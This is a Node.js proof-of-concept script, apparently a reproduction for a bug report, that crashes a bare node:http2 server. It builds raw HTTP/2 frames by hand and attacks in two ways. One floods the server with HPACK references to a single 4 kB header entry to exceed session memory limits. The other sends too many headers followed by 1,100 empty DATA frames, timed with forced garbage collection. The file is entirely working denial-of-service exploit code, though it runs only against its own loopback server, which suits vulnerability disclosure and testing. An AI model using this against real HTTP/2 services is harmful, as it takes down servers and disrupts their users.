// Aborts a bare node:http2 server: node docs/reports/node-http2-abort.mjs [refs|pairs] [seconds]. Nothing to install; loopback only.
import { spawn } from "node:child_process";
import { once } from "node:events";
import http2 from "node:http2";
import net from "node:net";

const [, script, kind = "refs", seconds = "10"] = process.argv;
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

if (kind === "server") {
  const server = http2.createServer();
  server.on("stream", (stream) => stream.on("error", () => {}).resume());
  server.on("sessionError", () => {});
  server.listen(0, "127.0.0.1", () => console.log(server.address().port));
} else {
  const flags = kind === "pairs" ? ["--gc-interval=500"] : []; // so that a collection comes at the wrong moment soon
  const child = spawn(process.execPath, [...flags, script, "server"], { stdio: ["ignore", "pipe", "inherit"] });
  const port = Number(String((await once(child.stdout, "data"))[0]));
  const until = performance.now() + Number(seconds) * 1000;
  const goesOn = () => child.exitCode === null && child.signalCode === null && performance.now() < until;
  const client = async () => {
    while (goesOn()) await (kind === "pairs" ? manyHeaders : references)(port).catch(() => pause(5));
  };
  await Promise.all([client(), client(), client(), client()]);
  await pause(200);
  console.log(child.signalCode ?? "the server is alive");
  child.kill("SIGKILL");
}

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
/** RFC 7541, 6.2: 0x40 indexes it, 0 does not. */
function literal(name, value, how = 0) {
  const text = (of) => Buffer.concat([of.length < 127 ? Buffer.from([of.length]) : long(of.length), Buffer.from(of)]);
  const long = (n) => Buffer.from([127, ((n - 127) & 127) | 128, (n - 127) >> 7]);
  return Buffer.concat([Buffer.from([how]), text(name), text(value)]);
}
async function connected(port) {
  const socket = net
    .connect(port, "127.0.0.1")
    .on("error", () => {})
    .resume();
  await once(socket, "connect");
  socket.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0), frame(4, 1, 0)]));
  return socket;
}
function request() {
  const all = { ":method": "POST", ":scheme": "http", ":path": "/", ":authority": "a" };
  return Buffer.concat(Object.entries(all).map(([name, value]) => literal(name, value)));
}

/** Streams whose headers are 7 references to one entry of 4 kB: above maxSessionMemory (10 MB) after some 350 of them. */
async function references(port) {
  const socket = await connected(port);
  socket.write(frame(1, 4, 1, Buffer.concat([request(), literal("x", "v".repeat(4000), 0x40)])));
  const block = Buffer.concat([request(), Buffer.alloc(7, 0x80 | 62)]);
  for (let i = 1; i < 980 && !socket.destroyed; i += 20) {
    for (let j = i; j < i + 20; j++) socket.write(frame(1, 4, 2 * j + 1, block));
    await pause(2);
  }
  await pause(300);
  socket.destroy();
}

/** Streams of 144 headers, 128 being allowed; then 1,100 empty DATA frames, at which node gives the session up. */
async function manyHeaders(port) {
  const socket = await connected(port);
  socket.write(frame(1, 4, 1, request()));
  const many = Array.from({ length: 140 }, (_, i) => literal(`x-${i}`, "v".repeat(70)));
  const block = Buffer.concat([request(), ...many]);
  for (let i = 1; i < 60 && !socket.destroyed; i += 3) {
    for (let j = i; j < i + 3; j++) socket.write(frame(1, 4, 2 * j + 1, block));
    await pause(1);
  }
  socket.write(Buffer.concat(Array.from({ length: 1100 }, () => frame(0, 0, 1))));
  await pause(5);
  socket.destroy();
}
